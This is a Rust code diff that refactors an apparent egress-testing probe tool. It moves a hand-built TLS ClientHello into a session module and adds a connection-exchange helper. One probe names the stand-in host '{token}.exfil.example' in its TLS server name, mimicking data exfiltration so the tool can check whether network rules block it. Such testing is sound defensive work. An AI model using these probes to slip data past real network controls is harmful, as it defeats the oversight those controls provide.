@@ -9,6 +9,7 @@ use std::time::Duration;
 
 use super::attempt::{Attempt, NoTarget, NotMade};
 use super::packet::{Ends, protocol};
+use super::session::client_hello;
 use super::targets::Web;
 
 type Made = Result<(), NotMade>;
@@ -161,7 +162,7 @@ pub(super) fn http2_upgrade(attempt: &mut Attempt) -> Made {
 
 /// A TLS hello, where rules about requests cannot be decided.
 pub(super) fn tls(attempt: &mut Attempt) -> Made {
-    send(attempt, |_, token| vec![client_hello(&format!("{token}.exfil.example"))])
+    send(attempt, |_, token| vec![client_hello(Some(&format!("{token}.exfil.example")), [7; 32])])
 }
 
 /// Bytes of no protocol that the rules speak of.
@@ -173,9 +174,14 @@ pub(super) fn opaque(attempt: &mut Attempt) -> Made {
 fn send(attempt: &mut Attempt, parts: impl Fn(&Web, &str) -> Vec<Vec<u8>>) -> Made {
     let web = attempt.targets.web.as_ref().ok_or(NoTarget("web"))?;
     let address = SocketAddr::new(web.address.of(attempt.family), web.port);
+    let parts = parts(web, &attempt.token.to_string());
+    exchange(attempt, address, parts)
+}
+
+/// Sends one part after the other on one connection, each once the one before was answered or nothing came.
+pub(super) fn exchange(attempt: &mut Attempt, address: SocketAddr, parts: Vec<Vec<u8>>) -> Made {
     let ends = Ends { source_port: 0, ..attempt.ends(0, address) };
     attempt.announce(protocol::TCP, ends);
-    let parts = parts(web, &attempt.token.to_string());
     let connected = TcpStream::connect_timeout(&address, attempt.left());
     attempt.note("connected", &connected);
     let Ok(mut stream) = connected else { return Ok(()) };
@@ -228,25 +234,6 @@ fn literal(block: &mut Vec<u8>, index: u8, name: Option<&str>, value: &str) {
     }
 }
 
-/// The least TLS 1.2 hello that names a server.
-fn client_hello(server: &str) -> Vec<u8> {
-    let sized = |bytes: &[u8]| {
-        let mut out = u16::try_from(bytes.len()).unwrap_or(0).to_be_bytes().to_vec();
-        out.extend(bytes);
-        out
-    };
-    let name = [&[0][..], &sized(server.as_bytes())].concat();
-    let extension = [&[0, 0][..], &sized(&sized(&name))].concat();
-    let mut hello = vec![3, 3];
-    hello.extend([7; 32]);
-    hello.push(0);
-    hello.extend(sized(&[0xc0, 0x2f, 0xc0, 0x30]));
-    hello.extend([1, 0]);
-    hello.extend(sized(&extension));
-    let handshake = [&[1, 0][..], &sized(&hello)].concat();
-    [&[22, 3, 1][..], &sized(&handshake)].concat()
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -269,14 +256,6 @@ mod tests {
         let frame = &bytes[24 + 9..];
         assert_eq!(usize::from(frame[2]), frame.len() - 9);
         assert!(frame.ends_with(b"\x13bh-0000000000000001"));
-    }
-
-    #[test]
-    fn a_tls_hello_has_consistent_lengths_and_shows_its_name() {
-        let bytes = client_hello("bh-0000000000000001.exfil.example");
-        assert_eq!(usize::from(bytes[3]) * 256 + usize::from(bytes[4]), bytes.len() - 5);
-        assert_eq!(usize::from(bytes[7]) * 256 + usize::from(bytes[8]), bytes.len() - 9);
-        assert_eq!(super::super::token::Token::find(&bytes, 8).len(), 1);
     }
 
     #[test]
